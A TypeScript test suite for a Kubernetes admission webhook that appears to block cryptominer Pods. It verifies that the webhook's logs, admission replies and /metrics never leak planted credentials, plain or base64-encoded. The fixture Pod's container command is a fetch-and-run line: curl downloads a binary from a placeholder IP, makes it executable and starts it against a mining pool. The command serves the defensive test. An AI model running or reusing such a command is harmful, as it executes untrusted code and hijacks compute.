import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { K8sObject } from '../../src/core/types.js';
import { createLogger } from '../../src/webhook/logging.js';
import { minerPod, review, startServer, type Running } from './harness.js';

/**
 * Issue 17, secrets: the webhook reads objects that carry credentials (env values, URLs with a
 * password, Secret data, the last-applied annotation that copies them). Its log lines, at every
 * level, its AdmissionReview answers and /metrics must never hold one, plain or base64-encoded. Each secret is a distinct
 * token, and the parts of a URL password around its `/` and `@` are checked on their own too,
 * since a redaction that stops at the first `/` or `@` would leak the rest.
 */

const b64 = (text: string): string => Buffer.from(text).toString('base64');

const ENV_PLAIN = 'EnvPlainQx7Rk2Mw9';
const ENV_B64_SOURCE = 'EnvEncodedJv4Tn8Lp3';
const URL_USER_PASSWORD = ['Ur1Head', 'Ur1Mid', 'Ur1Tail'] as const;
// `/` and `@` inside the password, as the minimal inputs had them.
const URL_PASSWORD = `${URL_USER_PASSWORD[0]}/${URL_USER_PASSWORD[1]}@${URL_USER_PASSWORD[2]}`;
const DB_PASSWORD = ['DbPwFrontZ3', 'DbPwBackY8'] as const;
const DB_URL_PASSWORD = `${DB_PASSWORD[0]}@/${DB_PASSWORD[1]}`;
const SECRET_DATA = 'SecretDataHk5Vw1Bn6';
const SECRET_STRING_DATA = 'StringDataGm2Xc7Pd4';
const LAST_APPLIED = 'LastAppliedRt9Ys3Fe';

/** Every planted value, as it could appear: plain, and base64 when the manifest stores it encoded. */
const NEEDLES: readonly string[] = [
  ENV_PLAIN,
  ENV_B64_SOURCE,
  b64(ENV_B64_SOURCE),
  ...URL_USER_PASSWORD,
  URL_PASSWORD,
  encodeURIComponent(URL_PASSWORD),
  ...DB_PASSWORD,
  SECRET_DATA,
  b64(SECRET_DATA),
  SECRET_STRING_DATA,
  LAST_APPLIED,
  b64(LAST_APPLIED),
];

/** A miner Pod (so findings, evidence and denial messages are produced) carrying every kind of credential. */
function podWithSecrets(): K8sObject {
  const pod = minerPod();
  const container = (pod.spec as { containers: Record<string, unknown>[] }).containers[0] as Record<string, unknown>;
  container.command = ['sh', '-c', `curl -s https://miner:${URL_PASSWORD}@203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333`];
  container.env = [
    // `value` before `name`, as the fix preview leak needed.
    { value: ENV_PLAIN, name: 'API_TOKEN' },
    { name: 'ENCODED_TOKEN', value: b64(ENV_B64_SOURCE) },
    { name: 'DATABASE_URL', value: `postgres://app:${DB_URL_PASSWORD}@db.internal:5432/app` },
  ];
  return pod;
}

function secretObject(): K8sObject {
  const data = { password: b64(SECRET_DATA) };
  return {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: {
      name: 'db-credentials',
      namespace: 'kubeflow-user-example-com',
      annotations: {
        // kubectl apply copies the whole object, data included, into this annotation; this one is cut
        // short, so a reader that parses it fails, and its error text must not carry the value either.
        'kubectl.kubernetes.io/last-applied-configuration': `{"apiVersion":"v1","kind":"Secret","data":{"token":"${b64(LAST_APPLIED)}"},"stringData":{"token":"${LAST_APPLIED}`,
      },
    },
    type: 'Opaque',
    data,
    stringData: { token: SECRET_STRING_DATA },
  };
}

describe('webhook logs and /metrics never carry planted secrets', () => {
  const lines: string[] = [];
  let running: Running;
  const replies: string[] = [];

  before(async () => {
    running = await startServer({ logger: createLogger({ write: (line: string) => void lines.push(line) }, 'trace') });
    const pod = podWithSecrets();
    const secret = secretObject();
    const bodies = [
      review(pod),
      review(secret),
      review(pod, { operation: 'UPDATE', oldObject: pod }),
      review(secret, { operation: 'UPDATE', oldObject: secret }),
      review(pod, { dryRun: true }),
      review(secret, { operation: 'DELETE', object: null, oldObject: secret }),
      // Bodies the server refuses: cut short and wrongly shaped, with the secrets inside.
      review(pod).slice(0, -40),
      JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { object: secret } }),
    ];
    for (const body of bodies) replies.push((await running.post(body)).text);
    replies.push((await running.get('/metrics')).text);
  });

  after(async () => {
    await running.close();
  });

  test('the reviews were judged and logged (the check below reads real lines)', () => {
    const decisions = lines.map((line) => JSON.parse(line) as { msg?: string; decision?: string }).filter((entry) => entry.msg === 'admission review');
    assert.ok(decisions.length >= 6, `only ${decisions.length} review lines:\n${lines.join('')}`);
    assert.ok(decisions.some((entry) => entry.decision === 'denied'), 'the miner Pod is denied, so findings and their evidence were made');
  });

  test('no log line holds a secret, plain or base64', () => {
    const log = lines.join('');
    for (const needle of NEEDLES) assert.ok(!log.includes(needle), `the log holds ${needle}:\n${lines.filter((l) => l.includes(needle)).join('')}`);
  });

  test('nor do the answers: denial messages, warnings and audit annotations (the API server logs those)', () => {
    const answers = replies.slice(0, -1);
    assert.ok(answers.some((text) => text.includes('"allowed":false')), 'a denial was answered');
    for (const [i, text] of answers.entries()) {
      for (const needle of NEEDLES) assert.ok(!text.includes(needle), `answer ${i} holds ${needle}: ${text}`);
    }
  });

  test('/metrics holds none either', () => {
    const metrics = replies[replies.length - 1] ?? '';
    assert.match(metrics, /kfguard_webhook_requests_total/);
    for (const needle of NEEDLES) assert.ok(!metrics.includes(needle), `/metrics holds ${needle}`);
  });
});
